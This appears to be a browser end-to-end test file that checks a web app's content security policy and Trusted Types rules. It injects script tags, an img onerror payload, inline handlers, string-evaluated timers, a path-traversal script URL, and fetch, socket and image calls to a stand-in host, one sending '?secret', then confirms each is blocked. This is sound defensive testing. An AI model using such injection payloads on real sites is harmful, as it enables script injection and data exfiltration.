import { stage } from '../stage/stage.ts'
import { expect, test } from '../stage/test.ts'
import { newAccount } from '../users/people.ts'

test('HOUSE-023 COMP-050 markup injected into a document cannot start a build that the page does not run', async ({
  page,
  violations,
}) => {
  const foreign = '<script src="/builds/market/0.0.1/main.js"></script><script>alert()</script>'
  await page.route(`${stage().app}/language`, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: `${foreign}${await response.text()}` })
  })
  await page.goto(`${stage().app}/language`)
  await expect(page.getByRole('heading', { name: 'Language' })).toBeVisible()
  expect(violations.splice(0).toSorted()).toEqual([
    expect.stringMatching(/Executing inline script/),
    expect.stringMatching(/Loading the script '.*\/builds\/market\/0\.0\.1\/main\.js'/),
  ])
})

test('COMP-051 COMP-052 injected text becomes neither script nor style, and cannot be sent elsewhere @smoke', async ({
  page,
  violations,
}) => {
  await page.goto(`${stage().app}/language`)
  await expect(page.getByRole('heading', { name: 'Language' })).toBeVisible()
  const refused = await page.evaluate(async () => {
    const target = document.body.appendChild(document.createElement('div'))
    const script = () => target.appendChild(document.createElement('script'))
    const attempts: Record<string, () => unknown> = {
      'the address of a build that does not run': () =>
        (script().src = '/builds/market/0.0.1/main.js'),
      'a path out of the chunks': () => (script().src = '/files/market/chunks/../remoteEntry.js'),
      'a foreign script': () => (script().src = 'https://elsewhere.example/'),
      'a script of text': () => (script().textContent = 'alert()'),
      'a worker of a build': () => new Worker('/builds/market/1.0.1/main.js'),
      markup: () => (target.innerHTML = '<img src="x:" onerror="alert()">'),
      'a handler': () => target.setAttribute('onclick', 'alert()'),
      'evaluated text': () => Reflect.apply(setTimeout, null, ['alert()']),
      'a style attribute': () => target.setAttribute('style', 'position: fixed'),
      'a style element': () =>
        target.append(Object.assign(document.createElement('style'), { textContent: 'p {}' })),
      'a foreign socket': () => new WebSocket('wss://elsewhere.example/'),
      'a foreign call': () => fetch('https://elsewhere.example/'),
      'a foreign picture': () => (new Image().src = 'https://elsewhere.example/?secret'),
    }
    const found: Record<string, string> = {}
    for (const [name, attempt] of Object.entries(attempts)) {
      const refusal = new Promise<string>((resolve) =>
        document.addEventListener(
          'securitypolicyviolation',
          ({ effectiveDirective }) => resolve(effectiveDirective),
          { once: true },
        ),
      )
      // Each browser throws its own error; the event says which rule stopped the attempt.
      await Promise.resolve()
        .then(attempt)
        .catch(() => null)
      found[name] = await refusal
    }
    return found
  })
  expect(refused).toEqual({
    'the address of a build that does not run': 'require-trusted-types-for',
    'a path out of the chunks': 'require-trusted-types-for',
    'a foreign script': 'require-trusted-types-for',
    'a script of text': 'require-trusted-types-for',
    'a worker of a build': 'require-trusted-types-for',
    markup: 'require-trusted-types-for',
    'a handler': 'require-trusted-types-for',
    'evaluated text': 'require-trusted-types-for',
    'a style attribute': 'style-src-attr',
    'a style element': 'style-src-elem',
    'a foreign socket': 'connect-src',
    'a foreign call': 'connect-src',
    'a foreign picture': 'img-src',
  })
  violations.length = 0
})

test('COMP-054 the servers’ own pages update under their policies', async ({ page }) => {
  const { sandbox, registry } = stage()
  await page.goto(`${sandbox}/outbox`)
  const { email } = await newAccount()
  await expect(page.getByRole('heading', { name: email }).first()).toBeVisible()
  for (const address of [registry, `${sandbox}/docs`]) {
    await page.goto(address)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
})
